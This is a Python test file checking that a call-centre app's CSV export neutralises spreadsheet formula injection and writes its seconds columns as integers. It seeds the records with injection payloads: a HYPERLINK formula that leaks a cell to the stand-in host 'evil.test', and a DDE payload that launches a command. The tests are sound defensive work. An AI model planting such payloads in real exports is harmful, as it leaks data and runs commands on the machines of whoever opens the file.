"""What a spreadsheet opening the call export sees: text, never formulas; whole rows; integers."""

from __future__ import annotations

import csv
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pandas as pd
from sqlmodel import Session

from services.call_center import add_notes, log_call, update_call_status
from services.models import CallCreate, CallDirection, CallFilters, CallStatus, CallUpdate, Role
from tests import factories as f
from watheeq_ui import exports

T0 = datetime(2025, 3, 1, 9, 0, tzinfo=timezone.utc)
HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"open")'


def _export(session: Session, tmp_path, monkeypatch) -> Path:
    monkeypatch.setenv("WATHEEQ_EXPORT_DIR", str(tmp_path / "exports"))
    tenant = f.make_tenant(session)
    agent = f.principal_of(f.make_user(session, tenant, Role.AGENT, full_name="@SUM(1+1)"))
    manager = f.principal_of(f.make_user(session, tenant, Role.MANAGER))
    f.make_client(session, tenant, name=HYPERLINK, phone="0501234567")

    answered = log_call(
        session=session,
        tenant_id=tenant.id,
        actor=agent,
        data=CallCreate(direction=CallDirection.INBOUND, remote_number="0501234567", started_at=T0),
    )
    update_call_status(
        session=session, tenant_id=tenant.id, actor=agent, call_id=answered.id,
        data=CallUpdate(status=CallStatus.ANSWERED, answered_at=T0 + timedelta(seconds=12)),
    )
    update_call_status(
        session=session, tenant_id=tenant.id, actor=agent, call_id=answered.id,
        data=CallUpdate(status=CallStatus.COMPLETED, ended_at=T0 + timedelta(seconds=100), hangup_cause="-cmd|' /C calc'!A0"),
    )
    # A bare CR in a note, followed by what would be a formula cell on a new row.
    add_notes(session=session, tenant_id=tenant.id, actor=agent, call_id=answered.id, note="called back\r=1+1,=2+2")
    missed = log_call(
        session=session,
        tenant_id=tenant.id,
        actor=agent,
        data=CallCreate(direction=CallDirection.INBOUND, remote_number="=1+1", started_at=T0 + timedelta(hours=1)),
    )
    update_call_status(
        session=session, tenant_id=tenant.id, actor=agent, call_id=missed.id,
        data=CallUpdate(status=CallStatus.MISSED, ended_at=T0 + timedelta(hours=1, seconds=30)),
    )
    session.commit()

    ticket, written = exports.write_history_csv(
        principal=manager, filters=CallFilters(), timezone="Asia/Riyadh", progress=lambda done, total: None
    )
    assert written == 2
    return tmp_path / "exports" / f"{ticket}.csv"


def _rows(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        header, *data = csv.reader(handle)
    return header, data


def test_export_cells_never_start_a_formula(session: Session, tmp_path, monkeypatch) -> None:
    path = _export(session, tmp_path, monkeypatch)
    header, data = _rows(path)
    frame = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False, dtype=str)
    assert header == exports.COLUMNS
    # Two calls, two rows: the CR inside the note stayed inside its quoted cell.
    assert len(data) == 2 and len(frame) == 2
    cells = [cell for row in data for cell in row] + [cell for column in frame.columns for cell in frame[column]]
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r", "+", "-") and not c[1:].isdigit()]

    by_status = {row[header.index("status")]: dict(zip(header, row)) for row in data}
    completed, missed = by_status["COMPLETED"], by_status["MISSED"]
    assert completed["client"] == "'" + HYPERLINK
    assert completed["agent"] == "'@SUM(1+1)"
    assert completed["hangup_cause"] == "'-cmd|' /C calc'!A0"
    assert completed["notes"] == "called back\r=1+1,=2+2"
    assert missed["remote_number"] == "'=1+1"
    # A phone number in E.164 is a plain number, not a formula: it stays as written.
    assert completed["remote_e164"] == "+966501234567"


def test_export_seconds_are_integers(session: Session, tmp_path, monkeypatch) -> None:
    path = _export(session, tmp_path, monkeypatch)
    header, data = _rows(path)
    by_status = {row[header.index("status")]: dict(zip(header, row)) for row in data}
    assert by_status["COMPLETED"]["ring_seconds"] == "12"
    assert by_status["COMPLETED"]["talk_seconds"] == "88"
    assert by_status["MISSED"]["ring_seconds"] == "30"
    assert by_status["MISSED"]["talk_seconds"] == ""
    frame = pd.read_csv(path, encoding="utf-8-sig")
    assert str(frame["ring_seconds"].dtype) == "int64"
    assert str(frame["id"].dtype) == "int64"
    assert frame["talk_seconds"].dropna().tolist() == [88]
